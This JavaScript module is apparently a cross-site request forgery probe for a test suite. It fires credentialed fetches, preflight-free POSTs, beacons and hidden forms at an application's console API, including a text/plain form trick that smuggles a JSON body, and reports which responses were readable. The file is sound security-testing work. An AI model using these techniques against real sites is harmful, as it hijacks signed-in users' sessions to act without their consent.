/**
 * Runs in a page of another site and tries everything it can on behalf of the person signed in at `origin`: fetch in
 * every mode, beacons and forms.
 * @param {[string, { method: string, path: string }[], string]} plan origin, operations, a JSON body for any of them
 * @returns {Promise<{ tried: number, read: string[] }>} how much was tried; the answers that the page was allowed to
 * read
 */
exports.attack = async ([origin, operations, json]) => {
  let tried = 0;
  const answers = [];
  async function send(url, init) {
    tried += 1;
    const answer = await fetch(url, { credentials: 'include', body: json, ...init }).catch(() => undefined);
    answers.push(answer ? `${answer.type} ${answer.status}` : 'refused by the browser');
  }
  async function submit(url) {
    tried += 1;
    const frame = document.createElement('iframe');
    frame.name = `frame${tried}`;
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: url, enctype: 'text/plain', target: frame.name });
    const field = document.createElement('input');
    // its name and value make one JSON text around the equals sign
    Object.assign(field, { name: `${json.slice(0, -1)},"x":"`, value: '"}' });
    form.append(field);
    document.body.append(frame, form);
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    form.submit();
    await loaded;
    frame.remove();
  }
  for (const { method, path } of operations) {
    const url = `${origin}/console/api${path}`;
    await send(url, { method, mode: 'cors', headers: { 'Content-Type': 'application/json' } });
    // a POST of these types needs no preflight request
    for (const type of ['text/plain', 'application/x-www-form-urlencoded']) {
      await send(url, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': type } });
    }
    if (method !== 'POST') continue;
    await send(url, { method, mode: 'cors' });
    tried += 1;
    navigator.sendBeacon(url, new Blob([json], { type: 'text/plain' }));
    await submit(url);
  }
  return { tried, read: answers.filter((answer) => !/^(opaque 0|refused by the browser)$/.test(answer)) };
};
